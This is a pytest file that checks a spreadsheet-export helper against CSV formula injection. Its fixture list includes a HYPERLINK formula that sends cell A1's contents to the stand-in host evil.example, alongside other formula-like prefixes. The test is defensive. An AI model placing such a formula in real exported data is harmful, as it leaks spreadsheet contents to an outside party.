import csv
import io

import pytest

from aicmo_site.spreadsheets import csv_writer, spreadsheet_safe, spreadsheet_unquoted

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
            "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote_and_comes_back_on_import(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_unquoted(spreadsheet_safe(value)) == value


@pytest.mark.parametrize("value", ["Ana", "", " =1", "a=b", "'quoted", "'", 42, -3, None, 1.5])
def test_text_that_is_no_formula_and_numbers_are_left_alone(value):
    assert spreadsheet_safe(value) == value
    if isinstance(value, str):
        assert spreadsheet_unquoted(value) == value


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", "ok", -5])
    writer.writerows([["@x", "+y"], ["-z"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok", "-5"], ["'@x", "'+y"], ["'-z"]]
